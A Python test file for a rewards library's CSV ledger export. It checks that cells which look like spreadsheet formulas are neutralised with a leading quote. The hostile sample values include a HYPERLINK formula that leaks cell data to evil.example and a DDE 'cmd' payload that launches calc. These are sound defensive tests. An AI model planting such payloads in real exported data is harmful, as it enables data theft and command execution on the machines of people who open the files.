"""``rewardrules.tools.export``: the ledger as CSV, with formula-like text cells neutralised."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from decimal import Decimal

import pytest

from helpers import at, line, program, purchase, refund, run
from rewardrules.engine.ledger import Evaluation, LedgerEntry
from rewardrules.money import currency
from rewardrules.tools.export import ledger_csv, neutralise, write_ledger_csv

USD = currency("USD")


def entry(
    customer: str = "c1", event: str = "p1", rule: str = "stars", **fields: object
) -> LedgerEntry:
    """A points entry of 5; ``fields`` override any attribute."""
    values: dict[str, object] = {
        "event_id": event,
        "customer_id": customer,
        "rule": rule,
        "kind": "points",
        "points": 5,
        "value_minor": None,
        "units": None,
        "money": USD,
        "template": "5 stars",
    }
    values.update(fields)
    return LedgerEntry(**values)  # type: ignore[arg-type]


def evaluation_of(*entries: LedgerEntry) -> Evaluation:
    """An evaluation holding these entries, one customer per distinct customer id.

    The customers are copies of a real result with another id and ledger, so that the
    fields the export does not read need not be spelled out here.
    """
    evaluated = run(program(), purchase("p0", at(), line("latte", "1.00")))
    template = evaluated.customers[0]
    customers = tuple(
        replace(
            template,
            customer_id=customer_id,
            ledger=tuple(item for item in entries if item.customer_id == customer_id),
        )
        for customer_id in dict.fromkeys(item.customer_id for item in entries)
    )
    return replace(evaluated, customers=customers)


HEADER = "customer_id,event_id,rule,kind,points,value,units,reason\r\n"


# --- neutralising a text cell ------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\r=cmd", "'\r=cmd"),
        ("c-1", "c-1"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("", ""),
    ],
)
def test_a_text_cell_that_starts_like_a_formula_gets_a_quote_in_front(
    text: str, written: str
) -> None:
    assert neutralise(text) == written


# --- the ledger as CSV -------------------------------------------------------------------


def test_the_ledger_has_a_header_and_one_row_per_entry_with_empty_cells_for_other_kinds() -> None:
    evaluation = evaluation_of(
        entry(),
        entry(event="p2", rule="card", kind="free", points=None, value_minor=450, units=1,
              template="the 3rd item of the card is free"),
        entry(customer="c2", event="p3", rule="card", kind="voucher", points=None,
              value_minor=1200, units=1, template="a voucher, worth 12.00 USD"),
    )  # fmt: skip

    assert ledger_csv(evaluation) == (
        HEADER
        + "c1,p1,stars,points,5,,,5 stars\r\n"
        + "c1,p2,card,free,,4.50,1,the 3rd item of the card is free\r\n"
        + 'c2,p3,card,voucher,,12.00,1,"a voucher, worth 12.00 USD"\r\n'
    )


def test_hostile_customer_ids_event_ids_rule_ids_and_reasons_are_written_as_text() -> None:
    evaluation = evaluation_of(
        entry(
            customer='=HYPERLINK("http://evil.example/?"&A1,"Click")',
            event="+1",
            rule="@SUM(A1:A9)",
            template="-2+3+cmd|' /C calc'!A0",
        ),
        entry(customer="\t=1", event="\r=2", rule="c-1", template="=1,2"),
    )

    assert ledger_csv(evaluation) == (
        HEADER
        + """"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'+1,'@SUM(A1:A9),"""
        + "points,5,,,'-2+3+cmd|' /C calc'!A0\r\n"
        + '\'\t=1,"\'\r=2",c-1,points,5,,,"\'=1,2"\r\n'
    )


def test_negative_points_and_values_are_numbers_not_neutralised_text() -> None:
    evaluation = evaluation_of(
        entry(event="r1", points=-12, template="refund of p1: -12 stars"),
        entry(event="r2", kind="discount", points=None, value_minor=-50, units=-1,
              template="-0.50 USD discount taken back"),
    )  # fmt: skip

    assert ledger_csv(evaluation) == (
        HEADER
        + "c1,r1,stars,points,-12,,,refund of p1: -12 stars\r\n"
        + "c1,r2,stars,discount,,-0.50,-1,'-0.50 USD discount taken back\r\n"
    )


def test_a_value_is_written_as_a_plain_numeral_in_the_currency_places() -> None:
    evaluation = evaluation_of(
        entry(kind="discount", points=None, value_minor=0, units=1),
        entry(event="p2", kind="discount", points=None, value_minor=10**20, units=1),
    )

    rows = list(csv.reader(io.StringIO(ledger_csv(evaluation))))

    assert [row[5] for row in rows[1:]] == ["0.00", "1" + "0" * 18 + ".00"]


def test_a_number_that_is_not_a_finite_decimal_is_refused() -> None:
    evaluation = evaluation_of(entry(kind="discount", points=None, value_minor=None, units=1))
    broken = evaluation_of(
        entry(kind="discount", points=None, value_minor=1, units=1, money=_NanCurrency())
    )

    assert ledger_csv(evaluation).endswith("c1,p1,stars,discount,,,1,5 stars\r\n")
    with pytest.raises(
        ValueError, match=r"^a ledger number must be a finite decimal number \(got 'NaN'\)$"
    ):
        ledger_csv(broken)


class _NanCurrency:
    """A currency whose amounts are not numbers, to reach the numeral check."""

    code = "USD"

    def to_decimal(self, minor: int) -> Decimal:
        return Decimal("NaN")


def test_an_evaluated_history_is_exported_with_hostile_customer_ids_neutralised() -> None:
    rules = program(
        points={"name": "stars"},
        rules=[{"kind": "points_per_spend", "id": "stars", "points": "1"}],
    )
    evaluation = run(
        rules,
        purchase("=cmd", at(), line("latte", "12.00"), customer="@evil"),
        refund("-r1", at(1), "=cmd", customer="@evil"),
        purchase("p2", at(2), line("beans", "3.00"), customer="+c"),
    )

    assert ledger_csv(evaluation) == (
        HEADER
        + "'+c,p2,stars,points,3,,,3.00 USD paid at 1 star per 1.00 USD: 3 stars\r\n"
        + "'@evil,'=cmd,stars,points,12,,,12.00 USD paid at 1 star per 1.00 USD: 12 stars\r\n"
        + "'@evil,'-r1,stars,points,-12,,,"
        + '"refund of purchase =cmd: stars recomputed on 0.00 USD left, 0 now instead of 12"\r\n'
    )


def test_write_ledger_csv_writes_the_same_text_to_a_stream() -> None:
    evaluation = evaluation_of(entry(customer="=x"))
    stream = io.StringIO(newline="")

    write_ledger_csv(evaluation, stream)

    assert (
        stream.getvalue()
        == ledger_csv(evaluation)
        == HEADER + "'=x,p1,stars,points,5,,,5 stars\r\n"
    )


def test_a_spreadsheet_reading_the_csv_gets_back_every_text_with_a_quote_in_front() -> None:
    hostile = ['=HYPERLINK("x")', "+1", "-1", "@A1", "\tx", "\rx", 'a "quoted", line\nbreak']
    evaluation = evaluation_of(*(entry(customer=text, event=f"e{index}")
                                 for index, text in enumerate(hostile)))  # fmt: skip

    rows = list(csv.reader(io.StringIO(ledger_csv(evaluation), newline="")))

    assert [row[0] for row in rows[1:]] == [neutralise(text) for text in hostile]
    assert [row[0].removeprefix("'") for row in rows[1:]] == hostile


def test_the_gift_cards_of_one_purchase_are_one_row_with_their_count_and_total() -> None:
    cinema = {
        "kind": "partner_gift_card",
        "id": "cinema",
        "partner": "Cinema",
        "value": "10.00",
        "every_spend": "0.01",
    }
    huge = "999999999999999999999.99"  # 24 characters: the longest price a history holds
    evaluation = run(program(rules=[cinema]), purchase("p1", at(), line("tv", huge, 3)))

    rows = list(csv.reader(io.StringIO(ledger_csv(evaluation))))

    cards = 3 * (10**23 - 1)  # one per cent of 3 x 999999999999999999999.99
    assert [row[:7] for row in rows[1:]] == [
        ["c1", "p1", "cinema", "gift_card", "", f"{cards * 10}.00", str(cards)]
    ]
